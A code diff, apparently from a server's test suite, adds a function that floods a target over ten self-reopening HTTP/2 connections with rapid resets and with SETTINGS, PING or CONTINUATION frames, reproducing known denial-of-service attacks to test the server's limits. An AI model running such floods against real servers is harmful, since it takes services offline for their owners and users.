@@ -1,6 +1,16 @@
+import { once } from 'node:events';
 import { setTimeout } from 'node:timers/promises';
 import { fixedLimits } from '../../../shared/limits.ts';
-import { END_HEADERS, END_STREAM, getBlock, http2Frame, noWindow, preface } from '../../support/http/http2Frames.ts';
+import {
+  END_HEADERS,
+  END_STREAM,
+  getBlock,
+  http2Frame,
+  literal,
+  noWindow,
+  preface,
+  resetRequests,
+} from '../../support/http/http2Frames.ts';
 import { connectTo, type Target } from './target.ts';
 
 /** As in the attack that was seen: a stream that is younger had a place that nobody else could take. */
@@ -35,4 +45,33 @@ async function holdConnection(target: Target, random: () => number): Promise<voi
 
 function open(stream: number): Buffer {
   return http2Frame('headers', { flags: END_STREAM | END_HEADERS, stream, payload });
+}
+
+const CONNECTIONS = 10;
+const times = (count: number, frame: Uint8Array) => Buffer.concat(Array.from({ length: count }, () => frame));
+const unfinished = http2Frame('headers', { flags: END_STREAM, stream: 1, payload: literal(':method', 'GET') });
+
+/** What one connection sends, over and over. */
+const floods = {
+  resets: resetRequests(1_000),
+  settings: times(1_000, http2Frame('settings')),
+  pings: times(1_000, http2Frame('ping', { payload: Buffer.alloc(8) })),
+  continuations: Buffer.concat([unfinished, times(1_000, http2Frame('continuation', { stream: 1 }))]),
+};
+
+/** Floods the server with frames of one kind. A connection that the server ends is opened again. */
+export async function floodFrames(target: Target, kind: keyof typeof floods): Promise<void> {
+  const flood = async () => {
+    for (;;) {
+      const socket = connectTo(target, 'h2').resume();
+      socket.once('end', () => socket.destroy());
+      socket.write(Buffer.concat([preface, http2Frame('settings')]));
+      while (!socket.destroyed) {
+        const closed = once(socket, 'close');
+        if (!socket.write(floods[kind])) await Promise.race([once(socket, 'drain'), closed]);
+        await setTimeout(1);
+      }
+    }
+  };
+  await Promise.all(Array.from({ length: CONNECTIONS }, flood));
 }
